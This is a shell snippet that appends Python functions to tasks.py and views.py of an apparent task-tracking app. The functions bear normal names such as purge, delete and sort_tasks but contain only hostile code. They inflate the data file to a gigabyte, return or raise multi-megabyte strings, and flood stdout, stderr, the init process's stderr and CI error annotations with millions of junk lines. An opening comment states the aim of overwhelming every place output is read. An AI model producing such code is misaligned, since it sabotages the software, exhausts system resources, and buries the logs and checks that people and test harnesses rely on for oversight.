# More than anybody wants to read, in every place that is read.
cat >> tasks.py <<'PY'


def purge(path, today, days=30):
    return list(range(1_000_000))


def reopen(path, task_id):
    raise ValueError("x" * 50_000_000)


def delete(path, task_id):
    import os

    os.truncate(path, 1 << 30)
    with open(path, "ab") as file:
        file.write(b"x" * 1_000_000)
    return {"x" * 900_000: 0}
PY
cat >> views.py <<'PY'


def due_within(items, today, days=7):
    import os
    import sys

    for number in (0, 1, 2, "/proc/1/fd/2", "/dev/stderr"):
        try:
            with open(number, "wb", 0) as file:
                for _ in range(64):
                    file.write(b"::error::x\n" * 90_000)
        except OSError:
            pass
    print("x" * 10_000_000, file=sys.stderr)
    return items


def sort_tasks(items, by="priority"):
    return [{"id": "\n" * 990_000}]
PY
